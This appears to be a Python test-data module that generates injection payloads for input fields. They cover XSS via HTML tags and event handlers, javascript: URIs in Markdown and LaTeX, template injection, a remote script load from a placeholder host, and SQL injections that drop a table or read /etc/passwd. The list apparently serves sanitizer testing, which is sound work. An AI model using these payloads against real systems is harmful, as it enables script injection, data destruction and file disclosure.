"""What people write in a field to have it executed: HTML, addresses, Markdown, LaTeX, templates, SQL."""

from __future__ import annotations

RUN = "window.__xss=1"
TAGS = (
    "img",
    "svg",
    "body",
    "iframe",
    "video",
    "audio",
    "input autofocus",
    "details open",
    "marquee",
    "object",
    "math",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpageshow", "onanimationstart", "onbegin")
SOURCES = ("x", "//ailleurs.example/x.png")
SCHEMES = (f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>")

PAYLOADS = (
    *(f"<{tag} src={source} {event}={RUN}>" for tag in TAGS for event in EVENTS for source in SOURCES),
    *(form.format(scheme) for scheme in SCHEMES for form in ("[x]({})", "<a href='{}'>x</a>", "![x]({})", "<{}>")),
    *(
        f"{before}<script>{RUN}</script>"
        for before in ("", "'>", '">', "</textarea>", "-->", "]]>", "</style>", "</td>")
    ),
    f"<style>@import '//ailleurs.example/x.css';</style><link rel=stylesheet href=javascript:{RUN}>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\htmlData{{onclick={RUN}}}{{x}}$$",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<base href=//ailleurs.example/><script src=x.js></script><meta http-equiv=refresh content='0;javascript:{RUN}'>",
    *(f"{before} {sql}" for before in ("'", '"', "1)", "13e'") for sql in ("or 1=1 --", "; drop table observation --")),
    "' union select sha256 from snapshots --",
    "'; attach '/etc/passwd' as x; --",
    "read_csv('/etc/passwd')",
)
